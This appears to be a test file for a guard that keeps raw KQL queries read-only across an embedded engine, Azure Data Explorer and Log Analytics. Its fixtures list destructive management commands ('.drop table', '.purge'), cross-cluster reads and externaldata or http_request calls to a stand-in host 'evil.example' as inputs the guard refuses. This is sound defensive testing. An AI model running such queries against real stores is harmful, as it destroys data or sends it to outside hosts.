/**
 * Raw KQL is read-only everywhere it can run: the same check refuses management commands, other
 * stores, outbound plugins and `set` statements in front of the embedded engine, Azure Data
 * Explorer and Log Analytics — before anything reaches a server — and ADX gets the limits as
 * request properties.
 */
import { createServer, type IncomingMessage, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readOnlyProblems } from '../../src/kql/language/read-only';
import { AdxKqlExecutor } from '../../src/sources/kql/adx-executor';
import { EmbeddedKqlExecutor } from '../../src/sources/kql/embedded-executor';
import { KqlError } from '../../src/sources/kql/executor';
import { LogAnalyticsKqlExecutor } from '../../src/sources/kql/log-analytics-executor';
import { answerFromFailure } from '../../src/answers/error-answer';
import { fixtureEngine } from './helpers';

const COMMANDS = [
  '.drop table SigninLogs', '.set NewTable <| SigninLogs', '.ingest inline into table SigninLogs <| x', '.create table T (a:string)',
  '.alter table SigninLogs (a:string)', '.append SigninLogs <| SigninLogs', '.delete table SigninLogs records <| SigninLogs | take 1',
  '.purge table SigninLogs records <| where true', '.set-or-append T <| SigninLogs', '.set-or-replace T <| SigninLogs',
  '.show tables', '.execute database script <| .drop table X', '.alter-merge table SigninLogs policy retention softdelete = 0d',
];

/** What may come before a command without making it any less a command. */
const PREFIXES = ['', '  ', '\n\n', '\t', '// a comment\n', '//.drop\n', 'let x = 1;\n', 'let T = SigninLogs | take 1;\n', 'SigninLogs | take 1;\n', 'print 1;\n', 'SigninLogs | take 1\n| '];

const REFUSED: [string, string][] = [
  ["cluster('evil.kusto.windows.net').database('db').SigninLogs", 'EA005'],
  ["SigninLogs | union cluster('x').database('y').T", 'EA005'],
  ["database('other').SigninLogs | take 1", 'EA005'],
  ["workspace('00000000-0000-0000-0000-000000000000').SigninLogs", 'EA005'],
  ["app('fabrikam').requests", 'EA005'],
  ["adx('https://help.kusto.windows.net/Samples').StormEvents", 'EA005'],
  ["resource('/subscriptions/x/resourceGroups/y').SigninLogs", 'EA005'],
  ["let T = cluster('x').database('y').T;\nT | take 1", 'EA005'],
  ["SigninLogs | join (Cluster ('x').Database('y').T) on UserId", 'EA005'],
  ['externaldata (a:string) [h@"https://evil.example/x.csv"]', 'EA005'],
  ['SigninLogs | lookup (externaldata (UserId:string) [@"https://evil.example/ids.csv"]) on UserId', 'EA005'],
  ['external_table("x") | take 1', 'EA005'],
  ['evaluate http_request("https://evil.example/")', 'EA006'],
  ['evaluate http_request_post("https://evil.example/", dynamic({}), "x")', 'EA006'],
  ['evaluate sql_request("Server=tcp:x.database.windows.net", "select 1")', 'EA006'],
  ['SigninLogs | evaluate python(typeof(*), "result = df")', 'EA006'],
  ['SigninLogs | evaluate hint.distribution = per_node python(typeof(*), "result = df")', 'EA006'],
  ['SigninLogs | evaluate r(typeof(*), "result <- df")', 'EA006'],
  ['evaluate cosmosdb_sql_request("a", "b", "c", "d")', 'EA006'],
  ['evaluate mysql_request("a", "b")', 'EA006'],
  ['evaluate postgresql_request("a", "b")', 'EA006'],
  ['evaluate azure_digital_twins_query_request("https://x", "SELECT T FROM DIGITALTWINS T")', 'EA006'],
  ['SigninLogs | evaluate ai_embed_text(UserPrincipalName, "https://x")', 'EA006'],
  ['evaluate infer_storage_schema(dynamic({}))', 'EA006'],
  ['set notruncation;\nSigninLogs | take 5', 'EA007'],
  ['set truncationmaxrecords = 100000000;\nSigninLogs', 'EA007'],
  ['set servertimeout = 1h; SigninLogs | count', 'EA007'],
  ['// hello\nset query_now = datetime(2020-01-01);\nSigninLogs | take 1', 'EA007'],
];

const ALLOWED = [
  'SigninLogs | where AppDisplayName == "cluster(\'x\').database(\'y\')" | take 1',
  'SigninLogs | where UserPrincipalName has ".drop table" | take 1',
  '// .drop table SigninLogs\nSigninLogs | take 1',
  'SigninLogs | extend app = AppDisplayName, cluster = 1 | take 1',
  'SigninLogs | summarize count() by AppDisplayName | evaluate pivot(AppDisplayName)',
  'let T = SigninLogs | take 3;\nT | project UserPrincipalName',
  'print s = "evaluate http_request(\\"x\\")"',
  'SigninLogs | where TimeGenerated > ago(1d) | summarize count() by bin(TimeGenerated, 1h)',
];

// Loading Kusto.Language and its first parse take seconds on a busy machine.
beforeAll(() => {
  readOnlyProblems('SigninLogs | take 1\n| .show tables');
}, 120_000);

describe('readOnlyProblems', () => {
  it.each(COMMANDS)('refuses %j after any prefix (EA001)', (command) => {
    for (const prefix of PREFIXES) {
      const problems = readOnlyProblems(prefix + command);
      expect(problems.map((p) => p.code), JSON.stringify(prefix + command)).toContain('EA001');
      const at = problems.find((p) => p.code === 'EA001')!;
      expect((prefix + command).slice(at.start, at.start + 1)).toBe('.');
    }
  });

  it.each(REFUSED)('refuses %j (%s)', (text, code) => {
    expect(readOnlyProblems(text).map((p) => p.code)).toContain(code);
  });

  it.each(ALLOWED)('lets %j through', (text) => {
    expect(readOnlyProblems(text)).toEqual([]);
  });

  it('finds a command hidden anywhere in a multi-statement query (fuzzed)', () => {
    const statement = fc.constantFrom('let a = 1;', 'let T = SigninLogs | take 1;', '// x\n', ' ', '\n', 'SigninLogs | take 1;', 'print "a;.drop";');
    fc.assert(fc.property(fc.array(statement, { maxLength: 6 }), fc.constantFrom(...COMMANDS), fc.array(statement, { maxLength: 3 }), (before, command, after) => {
      const text = `${before.join('')}${command}${after.length ? `;\n${after.join('')}` : ''}`;
      expect(readOnlyProblems(text).map((p) => p.code)).toContain('EA001');
    }), { numRuns: 40 });
  }, 180_000);

  it('never refuses a string literal, whatever it holds (fuzzed)', () => {
    const piece = fc.constantFrom('.drop table X', "cluster('a')", 'externaldata', 'evaluate http_request(', 'set notruncation;', ';', '|', '\n', '"', '\\');
    fc.assert(fc.property(fc.array(piece, { maxLength: 8 }), (parts) => {
      const literal = JSON.stringify(parts.join(''));
      expect(readOnlyProblems(`SigninLogs | where UserPrincipalName == ${literal} | take 1`)).toEqual([]);
    }), { numRuns: 40 });
  }, 180_000);
});

describe('the embedded executor refuses with a clear card', () => {
  it.each([...COMMANDS.slice(0, 4).map((c): [string, string] => [`let x = 1;\n${c}`, 'EA001']), ...REFUSED.slice(0, 14)])('%j', async (text, code) => {
    const executor = new EmbeddedKqlExecutor(await fixtureEngine());
    const err = await executor.execute({ source: 'kql', id: 'raw', text, maxRows: 10 }).then(() => undefined, (e: unknown) => e);
    expect(err).toBeInstanceOf(KqlError);
    expect((err as KqlError).code).toBe(code);
    const card = answerFromFailure(err as KqlError, text, text);
    expect(card.title).toBe('This KQL query is not allowed');
    expect(card.summary).toMatch(new RegExp(`^${code}: `));
  });

  it('runs an allowed query and caps its rows, saying it was truncated', async () => {
    const executor = new EmbeddedKqlExecutor(await fixtureEngine());
    const all = await executor.execute({ source: 'kql', id: 'raw', text: 'SigninLogs | project UserPrincipalName' });
    expect(all.rows.length).toBeGreaterThan(3);
    const capped = await executor.execute({ source: 'kql', id: 'raw', text: 'SigninLogs | project UserPrincipalName', maxRows: 3 });
    expect(capped.rows).toHaveLength(3);
    expect(capped.truncated).toBe(true);
  });
});

describe('remote executors check before sending', () => {
  let server: Server;
  let url: string;
  const bodies: string[] = [];
  beforeAll(async () => {
    server = createServer((req: IncomingMessage, res) => {
      let body = '';
      req.on('data', (c: Buffer) => (body += c.toString()));
      req.on('end', () => {
        bodies.push(body);
        // Like the local endpoint: no cloud metadata (404), and every query answered with an error.
        res.statusCode = req.method === 'GET' ? 404 : 400;
        res.setHeader('content-type', 'application/json');
        res.end(JSON.stringify({ error: { code: 'General_BadRequest', message: 'stub', '@message': 'stub' } }));
      });
    });
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
    url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  });
  afterAll(async () => {
    server.closeAllConnections();
    await new Promise<void>((r) => server.close(() => r()));
  });

  const refusedTexts = [...COMMANDS.slice(0, 3).map((c) => `// x\n${c}`), 'SigninLogs | take 1;\n.drop table SigninLogs', ...REFUSED.map(([t]) => t)];

  it('Azure Data Explorer: never sends a refused query', async () => {
    const adx = new AdxKqlExecutor({ clusterUrl: url, database: 'db', accessToken: 't' });
    const before = bodies.length;
    for (const text of refusedTexts) {
      await expect(adx.execute({ source: 'kql', id: 'raw', text }), text).rejects.toMatchObject({ name: 'KqlError', code: expect.stringMatching(/^EA00[1567]$/) });
    }
    expect(bodies.length).toBe(before);
    await adx.close();
  });

  it('Azure Data Explorer: sends read-only, the time limit and the row cap as request properties', async () => {
    const adx = new AdxKqlExecutor({ clusterUrl: url, database: 'db', accessToken: 't', timeoutMs: 12_000 });
    const before = bodies.length;
    await expect(adx.execute({ source: 'kql', id: 'raw', text: 'SigninLogs | take 10', maxRows: 500 })).rejects.toBeInstanceOf(KqlError);
    const sent = bodies.slice(before).filter((b) => b !== '').map((b) => JSON.parse(b) as { csl: string; properties?: string | { Options?: Record<string, unknown> } });
    const query = sent.find((b) => b.csl === 'SigninLogs | take 10');
    expect(query).toBeDefined();
    const props = typeof query!.properties === 'string' ? JSON.parse(query!.properties) as { Options: Record<string, unknown> } : query!.properties!;
    expect(props.Options).toMatchObject({ request_readonly: true, truncationmaxrecords: 501 });
    expect(String(props.Options!.servertimeout)).toMatch(/^(12000|00:00:12(\.0+)?)$/);
    await adx.close();
  });

  it('Log Analytics: never sends a refused query', async () => {
    let calls = 0;
    const credential = { getToken: async () => { calls++; return { token: 't', expiresOnTimestamp: Date.now() + 3_600_000 }; } };
    const la = new LogAnalyticsKqlExecutor({ workspaceId: 'w', credential, endpoint: url });
    const before = bodies.length;
    for (const text of refusedTexts) {
      await expect(la.execute({ source: 'kql', id: 'raw', text }), text).rejects.toMatchObject({ name: 'KqlError', code: expect.stringMatching(/^EA00[1567]$/) });
    }
    expect(bodies.length).toBe(before);
    expect(calls).toBe(0);
  });
});
